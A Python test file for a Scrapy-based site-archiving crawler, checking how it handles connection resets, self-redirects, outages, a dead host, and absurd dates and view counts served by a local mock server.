def test_a_listing_lost_to_connection_resets_is_never_an_ok_run(tmp_path):
    """Every attempt at a listing page ends in a reset connection: the walk stops there, and the
    run says so (exit 10, the page named) instead of 'verdict ok' and exit 0; the failure is
    recorded for the next run."""
    site = MirrorSite(120, now=NOW)
    category = max(site.by_category, key=lambda c: len(site.by_category[c]))
    page = f"/index.php/category-{category}_2.html"

    def reset(handler, match):
        handler.close_connection = True
        handler.connection.shutdown(2)  # the connection dies before any answer
        raise ConnectionResetError

    with Host(site=site) as host:
        host.on(page, reset)
        result = crawl(host, tmp_path, "-s", "XZ_MAX_ERROR_RATE=0.5", "-s", "XZ_UNREACHABLE_SECONDS=2")
    assert result.returncode == 10, result.stderr[-2000:]
    assert page in _summary(result)
    db = sqlite3.connect(tmp_path / "archive.db")
    assert (
        db.execute("SELECT COUNT(*) FROM failures WHERE url LIKE ? AND resolved_at IS NULL", [f"%{page}"]).fetchone()[0]
        == 1
    )


def test_a_redirect_to_itself_is_recorded_not_dropped(tmp_path):
    """A 301 whose Location is the address asked for: Scrapy's duplicate filter dropped the
    redirect silently (no failure, exit 0, every run again). It is followed again and, as it keeps
    pointing back, recorded as a failure of that address."""
    victim = SITE_IDS[7]
    path = f"/index.php/post/{victim}.html"
    with Host() as host:
        host.on(path, lambda h, m: (301, {"Location": host.base + path}, b""))
        result = crawl(host, tmp_path)
        asked = len(host.asked(path))
    assert result.returncode == 0, result.stderr[-2000:]  # one failed article of 30: under the error rate
    db = sqlite3.connect(tmp_path / "archive.db")
    reasons = db.execute("SELECT reason FROM failures WHERE url LIKE ?", [f"%{path}"]).fetchall()
    assert len(reasons) == 1 and "redirect" in reasons[0][0].lower(), reasons
    assert 2 <= asked <= 30  # followed again, bounded by the redirect limit
    assert victim not in stored_ids(tmp_path)


def test_a_three_second_outage_only_delays_a_fast_crawl(tmp_path):
    """The server refuses connections for 3 s in the middle of a crawl with requests 50 ms apart:
    the run waits it out (exit 0, every post stored). Counting failures in a row, it once
    stopped with exit 9 and 14 or 0 of 60 posts."""
    site = MirrorSite(60, now=NOW)
    host = Host(site=site).__enter__()
    port = host.server.server_address[1]
    command = crawl_args(host.base + "/", tmp_path, "-s", "DOWNLOAD_DELAY=0.05", "-s", "XZ_UNREACHABLE_SECONDS=20")
    proc = subprocess.Popen(
        command, cwd=tmp_path, env=CRAWL_ENV, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while len(host.asked(r"/index.php/post/\d+\.html")) < 10:
        assert time.monotonic() < deadline and proc.poll() is None
        time.sleep(0.01)
    host.die()
    time.sleep(3)
    with Host(site=site, port=port):
        _, err = proc.communicate(timeout=300)
    assert proc.returncode == 0, err[-3000:]
    assert stored_ids(tmp_path) == set(site.ids)


def test_a_dead_site_still_ends_within_the_bound(tmp_path):
    """A site dead from the start, however fast the crawl: exit 9 once connections have failed
    for XZ_UNREACHABLE_SECONDS, not sooner, and not much later."""
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    started = time.monotonic()
    result = run_crawl(
        f"http://127.0.0.1:{port}/", tmp_path, "-s", "XZ_UNREACHABLE_SECONDS=4", "-s", "DOWNLOAD_DELAY=0", timeout=120
    )
    took = time.monotonic() - started
    assert result.returncode == 9, result.stderr[-3000:]
    assert 4 <= took < 4 + 8 + 20, took  # the bound, one backoff at most, the process's start and stop


def test_an_article_with_an_absurd_date_and_count_is_stored_without_them(tmp_path):
    """An article page showing 99999999年前 and a count past SQLite's integers: the post is
    stored, with no date and no count from that page (it was not stored at all)."""
    from xzcrawler.mirror.server import route

    model = MirrorSite(30, now=NOW)
    victim = next(aid for aid in SITE_IDS if not model.is_seed(aid) and model.article(aid).shape == "full")
    with Host() as host:

        def absurd(handler, match):
            _, _, body, _ = route(host.site, handler.path, host.base)
            page = re.sub(
                r'<span class="date">.*?</span></span>|<span class="date">[^<]*</span>',
                '<span class="date">99999999年前</span>',
                body.decode("utf-8"),
                count=1,
            )
            page = re.sub(
                r'<span class="view">\d+</span>', '<span class="view">99999999999999999999</span>', page, count=1
            )
            return 200, {}, page.encode("utf-8")

        host.on(f"/index.php/post/{victim}.html", absurd)
        result = crawl(host, tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    row = (
        db(tmp_path)
        .execute(
            "SELECT published_text, published_earliest, published_latest, views_shown FROM articles WHERE article_id = ?",
            [victim],
        )
        .fetchone()
    )
    assert row is not None and row[0] == "99999999年前"
    assert row[1] is None or row[1] >= "1990-01-01"
    assert row[3] is None or row[3] < 2**63


def test_a_feed_item_dated_past_9999_costs_only_its_own_time(tmp_path):
    """One feed item dated Fri, 31 Dec 9999 23:00:00 -0800 made parse_feed raise (exit 3, no export,
    every item's exact time lost, on every run while it stayed among the newest)."""
    with Host() as host:

        def feed(handler, match):
            _, _, body, _ = route_of(host, "/feed.php")
            text = body.decode("utf-8")
            text = re.sub(
                r"<pubDate>[^<]*</pubDate>", "<pubDate>Fri, 31 Dec 9999 23:00:00 -0800</pubDate>", text, count=1
            )
            return 200, {"Content-Type": "application/rss+xml; charset=utf-8"}, text.encode("utf-8")

        host.on(r"/feed\.php", feed)
        result = crawl(host, tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    exact = db(tmp_path).execute("SELECT COUNT(*) FROM articles WHERE published_precision = 'second'").fetchone()[0]
    assert exact >= 8  # the feed's other nine items still date their posts to the second


def route_of(host, path):
    from xzcrawler.mirror.server import route

    return route(host.site, path, host.base)
